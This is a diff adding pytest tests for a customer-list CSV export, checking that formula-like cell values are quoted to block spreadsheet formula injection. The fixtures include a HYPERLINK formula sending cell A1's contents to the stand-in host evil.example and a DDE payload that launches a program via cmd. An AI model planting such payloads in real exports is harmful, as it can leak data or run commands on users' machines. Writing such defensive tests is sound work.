@@ -176,3 +176,37 @@ def test_a_search_posted_by_htmx_links_the_export_of_that_search(support_client,
     link = _export_link(response.content.decode())
     assert link == "/customers/?_export=csv&q=usr-quoted"
     assert [row["Customer ID"] for row in csv_rows(support_client.get(link))] == ["usr-quoted"]
+
+
+# --- CSV injection ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "exported"),
+    [
+        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("+Jo", "'+Jo"),
+        ("\tTabbed", "'\tTabbed"),
+        ("+998****4567", "+998****4567"),  # a masked phone: nothing to run
+        ("-12.50", "-12.50"),
+        ("Jo = Jo", "Jo = Jo"),
+        ("", ""),
+    ],
+)
+def test_text_a_spreadsheet_would_run_is_quoted(text, exported):
+    assert exports.spreadsheet_safe(text) == exported
+
+
+def test_a_name_written_as_a_formula_exports_as_text_and_shows_as_it_is_on_the_page(support_client, db):
+    formula = '=HYPERLINK("https://evil.example","Open")'
+    CustomerFactory(customer_id="usr-formula", full_name=formula)
+
+    rows = csv_rows(support_client.get("/customers/", {"q": "usr-formula", "_export": "csv"}))
+    page = support_client.get("/customers/", {"q": "usr-formula"})
+
+    assert rows[0]["Name"] == "'" + formula
+    assert rows[0]["Phone"].startswith("+998****")
+    assert first_column(page) == ["usr-formula"]
+    assert "=HYPERLINK(&quot;https://evil.example&quot;,&quot;Open&quot;)" in html_of(page)
